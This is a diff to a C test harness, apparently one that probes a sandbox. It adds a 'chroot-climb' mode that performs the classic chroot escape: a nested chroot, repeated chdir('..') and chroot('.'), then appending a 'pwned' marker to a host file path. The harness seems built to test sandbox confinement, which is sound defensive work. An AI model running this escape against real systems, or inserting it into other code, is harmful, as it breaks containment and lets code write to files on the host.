@@ -201,6 +201,28 @@ static int a_ioctl_winsize(int argc, char **argv)
 	return 0;
 }
 
+/* The classic way out of a chroot: a second root below the working
+ * directory, then `..` from the directory left outside it, up to the
+ * machine's root, made the root again; then PATH (a host path) written. */
+static int a_chroot_climb(int argc, char **argv)
+{
+	need_args(argc, 1, "chroot-climb HOST-PATH");
+	go();
+	if (chdir("/") != 0)
+		report("chdir-root", -1);
+	if (mkdir("/tmp/climb", 0700) != 0 && errno != EEXIST)
+		report("mkdir", -1);
+	report("chroot-inner", chroot("/tmp/climb"));
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") != 0)
+			break;
+	report("chroot-dot", chroot("."));
+	long fd = open(argv[0], O_WRONLY | O_APPEND);
+	report("open", fd);
+	report("write", append_pwned(fd));
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	static const struct mode modes[] = {
@@ -215,6 +237,7 @@ int main(int argc, char **argv)
 		{"execveat", a_execveat},
 		{"proc-spellings", a_proc_spellings},
 		{"ioctl-winsize", a_ioctl_winsize},
+		{"chroot-climb", a_chroot_climb},
 		{0, 0},
 	};
 	return dispatch(modes, argc, argv);
